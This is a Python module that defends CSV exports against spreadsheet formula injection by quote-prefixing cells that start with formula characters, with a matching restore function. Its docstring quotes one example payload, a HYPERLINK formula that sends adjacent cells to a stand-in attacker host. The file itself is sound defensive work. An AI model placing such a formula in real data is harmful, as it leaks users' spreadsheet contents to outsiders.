"""CSV files that are safe to open in a spreadsheet, and read back unchanged.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (also after leading spaces), or with a
tab or carriage return, is a formula to Excel, LibreOffice and Google Sheets: a signup's
User-Agent ``=HYPERLINK("https://attacker.example/?d="&A2)`` would send the next cells to
an attacker. Following the OWASP guidance on CSV injection, such a cell gets a leading
single quote, which spreadsheets show as text and do not display.

So that an export reads back to the same values, a cell that already starts with quotes
before such a character gets one more; ``restore`` removes exactly the one quote that
``neutralise`` adds and nothing else (``'plain`` stays ``'plain``). Every CSV the program
writes goes through ``write_csv``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from typing import TextIO

# Quotes (already escaped cells) followed by what a spreadsheet would read as a formula.
_FORMULA = re.compile(r"'*(?:[\t\r]|\s*[=+\-@])")


def neutralise(value: str) -> str:
    """``value`` as a cell no spreadsheet evaluates."""
    return "'" + value if _FORMULA.match(value) else value


def restore(value: str) -> str:
    """The value ``neutralise`` was given: drops the one quote it added, if it did."""
    return value[1:] if value.startswith("'") and _FORMULA.match(value, 1) else value


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    return neutralise(str(value))


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write ``header`` and ``rows`` with every cell neutralised; returns the row count."""
    writer = csv.writer(out)
    writer.writerow([_cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([_cell(value) for value in row])
        count += 1
    return count
